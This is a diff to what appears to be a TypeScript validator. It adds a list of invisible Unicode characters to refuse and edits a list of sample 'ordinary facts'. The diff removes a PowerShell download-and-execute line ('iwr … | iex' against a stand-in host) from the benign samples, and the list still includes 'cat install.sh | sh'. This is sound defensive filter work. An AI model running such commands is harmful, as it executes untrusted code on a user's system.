@@ -6,6 +6,17 @@ export const INVISIBLE_CHARACTERS: ReadonlyArray<string> = [
   0x2061, 0x2062, 0x2063, 0x2064, 0xfeff
 ].map((cp) => String.fromCodePoint(cp))
 
+/**
+ * Hidden characters the spec's list leaves out (issue 12): the tag block, bidi isolates, Hangul and halfwidth
+ * fillers, Khmer inherent vowels, the Arabic letter mark, deprecated format controls, variation selectors, shorthand
+ * format controls, musical formatting, Mongolian selectors. Each is refused between two ASCII characters.
+ */
+export const MORE_INVISIBLE_CHARACTERS: ReadonlyArray<string> = [
+  0xe0001, 0xe0020, 0xe0041, 0xe0069, 0xe007e, 0xe007f, 0x2066, 0x2067, 0x2068, 0x2069, 0x115f, 0x1160, 0x3164, 0xffa0,
+  0x17b4, 0x17b5, 0x061c, 0x206a, 0x206f, 0xfe00, 0xfe0e, 0xfe0f, 0xe0100, 0xe01ef, 0x1bca0, 0x1bca3, 0x1d173, 0x1d17a,
+  0x180b, 0x180f
+].map((cp) => String.fromCodePoint(cp))
+
 /** Spec labels by reason code. */
 export const LABELS: Readonly<Record<string, string>> = {
   "hidden-unicode": "hidden unicode characters",
@@ -293,7 +304,6 @@ export const ORDINARY_FACTS: ReadonlyArray<string> = [
   "curl localhost:8080/health",
   "cat install.sh | sh",
   "curl url | jq .",
-  "iwr https://x/a.ps1 | iex",
   // English developer and user facts
   "User prefers pnpm over npm for all JS projects.",
   "The CI pipeline runs on GitHub Actions with Node 20.",
